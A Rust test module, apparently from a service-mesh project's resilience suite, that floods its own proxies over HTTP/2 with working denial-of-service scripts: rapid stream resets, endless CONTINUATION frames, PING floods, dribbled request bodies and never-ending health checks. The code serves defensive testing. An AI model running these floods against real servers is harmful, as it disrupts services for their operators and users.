//! HTTP/2 to the application's own port, without an identity and with one that policies deny.

use std::io;
use std::net::IpAddr;
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use leno_tests::attacker::Attacker;
use leno_tests::wire::{self, call_block, code, flag, kind, literal};

use super::{Campaign, REST, at};

const AUTHORITY: &str = "echo.shop:50051";
/// Between bursts.
const PAUSE: Duration = Duration::from_millis(50);

/// What is done on one connection, until it ends.
type Script = fn(&mut Attacker) -> io::Result<()>;

pub(super) fn attack(campaign: &mut Campaign, proxies: &[IpAddr]) {
    let scripts: [(&'static str, Script); 6] = [
        ("h2_denied_calls", denied_calls),
        ("h2_rapid_resets", rapid_resets),
        ("h2_continuations", continuations),
        ("h2_pings", pings),
        ("h2_dribbled_content", dribbled_content),
        ("h2_health_checks_without_end", health_checks_without_end),
    ];
    for (name, script) in scripts {
        run(campaign, name, proxies, script);
    }
}

/// What a meshed Pod's calls are that no policy allows.
pub(super) fn call_what_policy_denies(campaign: &mut Campaign, proxies: &[IpAddr]) {
    run(campaign, "member_denied_calls", proxies, denied_calls);
    run(campaign, "member_rapid_resets", proxies, rapid_resets);
    run(campaign, "member_dribbled_content", proxies, dribbled_content);
}

/// A thread for each address, which follows the script again and again.
fn run(campaign: &mut Campaign, name: &'static str, ips: &[IpAddr], script: Script) {
    let (until, connections) = (campaign.until, campaign.count(name));
    for address in at(ips, 50051) {
        let connections = connections.clone();
        campaign.threads.push(std::thread::spawn(move || {
            while Instant::now() < until {
                if let Ok(mut attacker) = Attacker::connect(address, until) {
                    connections.fetch_add(1, Ordering::Relaxed);
                    script(&mut attacker).ok();
                    attacker.leave(Duration::ZERO);
                }
                std::thread::sleep(REST);
            }
        }));
    }
}

fn denied_calls(attacker: &mut Attacker) -> io::Result<()> {
    attacker.greet(&[])?;
    let block = call_block(AUTHORITY, "Echo", &[]);
    for stream in wire::client_streams() {
        attacker.send(&wire::headers(stream, flag::END_STREAM, &block))?;
        attacker.pause(PAUSE)?;
    }
    Ok(())
}

fn rapid_resets(attacker: &mut Attacker) -> io::Result<()> {
    attacker.greet(&[])?;
    let block = call_block(AUTHORITY, "Echo", &[]);
    for stream in wire::client_streams() {
        attacker.send(&[wire::headers(stream, flag::NONE, &block), wire::reset(stream, code::CANCEL)].concat())?;
        if stream % 16 == 1 {
            attacker.pause(PAUSE)?;
        }
    }
    Ok(())
}

fn continuations(attacker: &mut Attacker) -> io::Result<()> {
    attacker.greet(&[])?;
    attacker.send(&wire::frame(kind::HEADERS, flag::NONE, 1, &call_block(AUTHORITY, "Echo", &[])))?;
    let more = wire::frame(kind::CONTINUATION, flag::NONE, 1, &literal("x", "y"));
    loop {
        attacker.send(&more.repeat(20))?;
        attacker.pause(PAUSE)?;
    }
}

fn pings(attacker: &mut Attacker) -> io::Result<()> {
    attacker.greet(&[])?;
    let pings = wire::frame(kind::PING, flag::NONE, 0, b"flooding").repeat(100);
    loop {
        attacker.send(&pings)?;
        attacker.pause(PAUSE)?;
    }
}

/// A hundred calls whose content comes byte by byte, in frames of its own.
fn dribbled_content(attacker: &mut Attacker) -> io::Result<()> {
    send_content_of_calls(attacker, &call_block(AUTHORITY, "Echo", &[]))
}

/// A hundred of the one request that everybody may make, whose content never ends.
fn health_checks_without_end(attacker: &mut Attacker) -> io::Result<()> {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/grpc.health.v1.Health/Check"),
        (":authority", AUTHORITY),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    let block: Vec<u8> = fields.iter().flat_map(|(name, value)| literal(name, value)).collect();
    send_content_of_calls(attacker, &block)
}

fn send_content_of_calls(attacker: &mut Attacker, block: &[u8]) -> io::Result<()> {
    attacker.greet(&[])?;
    let streams: Vec<u32> = wire::client_streams().take(100).collect();
    let open: Vec<u8> = streams.iter().flat_map(|stream| wire::headers(*stream, flag::NONE, block)).collect();
    attacker.send(&open)?;
    let round: Vec<u8> =
        streams.iter().flat_map(|stream| wire::frame(kind::DATA, flag::NONE, *stream, b"\0")).collect();
    loop {
        attacker.send(&round)?;
        attacker.pause(PAUSE)?;
    }
}
